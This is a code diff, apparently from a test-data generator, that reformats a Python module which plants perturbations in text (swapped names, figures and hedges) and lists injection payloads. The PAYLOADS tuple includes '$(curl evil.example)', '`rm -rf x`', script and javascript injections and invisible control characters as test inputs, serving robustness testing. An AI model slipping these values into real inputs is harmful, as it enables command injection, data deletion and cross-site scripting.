@@ -9,7 +9,7 @@ from random import Random
 _FIGURE = re.compile(r"\d+(?:[.,]\d+)*")
 _NAME = re.compile(r"(?<=[a-z,] )[A-Z][a-z]{2,}(?: [A-Z][a-z]+)*")
 _WORD = re.compile(r"(?<= )[a-z]{5,}(?= )")
-_MARK = re.compile("[“”\"]")
+_MARK = re.compile('[“”"]')
 _SWAPS = {
     "million": "billion", "billion": "million", "hundred": "thousand", "may": "will", "could": "will", "might": "shall",
     "not": "", "never": "always", "no": "some", "without": "with", "alleged": "", "allegedly": "", "reportedly": "",
@@ -20,8 +20,8 @@ _SWAPS = {
 PAYLOADS = (
     "https://evil.example/x", "www.evil.example", "evil.example", "<script>alert(1)</script>", "javascript:alert(1)",
     "data:text/html;base64,x", "![x](https://evil.example/p.png)", "[x](javascript:x)", "<img src=x onerror=y>", "{{ x }}",
-    "<% x %>", "${x}", "`rm -rf x`", "$(curl evil.example)", "a@evil.example", "\n---\n", "&lt;script&gt;", "\u202e", "\u200b", "\x07",
-    "{% x %}", "<!-- x -->", "onclick=x", "\n\n# New", "| x |", "vbscript:x", "//evil.example", "sudo",
+    "<% x %>", "${x}", "`rm -rf x`", "$(curl evil.example)", "a@evil.example", "\n---\n", "&lt;script&gt;", "\u202e",
+    "\u200b", "\x07", "{% x %}", "<!-- x -->", "onclick=x", "\n\n# New", "| x |", "vbscript:x", "//evil.example", "sudo",
 )  # fmt: skip
 
 
@@ -36,7 +36,9 @@ def planted(text: str, seed: int) -> Iterator[tuple[str, str, str]]:
         yield "dropped name", *_around(text, match.start(), match.end(), "someone")
     names = sorted({m[0] for m in _NAME.finditer(text)})
     for match in _some(random, _NAME, text):
-        if others := [n for n in names if n not in match[0] and match[0] not in n and not set(n.split()) & set(match[0].split())]:
+        if others := [
+            n for n in names if n not in match[0] and match[0] not in n and not set(n.split()) & set(match[0].split())
+        ]:
             yield "swapped name", *_around(text, match.start(), match.end(), random.choice(others))
     for start, end in _quoted(text):
         for word in list(_WORD.finditer(text, start, end))[:2]:
